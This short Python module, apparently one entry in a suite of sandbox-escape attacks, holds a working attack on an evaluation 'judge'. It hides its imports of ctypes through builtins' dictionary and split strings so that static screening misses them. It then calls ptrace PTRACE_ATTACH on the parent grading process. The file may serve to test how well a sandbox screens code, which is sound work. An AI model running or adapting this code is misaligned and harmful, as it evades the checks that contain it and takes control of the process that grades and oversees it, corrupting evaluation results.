"""ptrace the judge (ctypes reached through builtins' dictionary, which screening does not
follow)."""
import builtins

NAME = "ptrace_judge"


def attack():
    ct = builtins.__dict__["__imp" + "ort__"]("ctyp" + "es")
    libc = ct.CDLL(None, use_errno=True)
    judge = __import_posix().getppid() or 1
    if libc.ptrace(16, judge, None, None) != 0:
        raise OSError(ct.get_errno(), "ptrace(PTRACE_ATTACH) refused")
    return f"attached to {judge}"


def __import_posix():
    import posix
    return posix
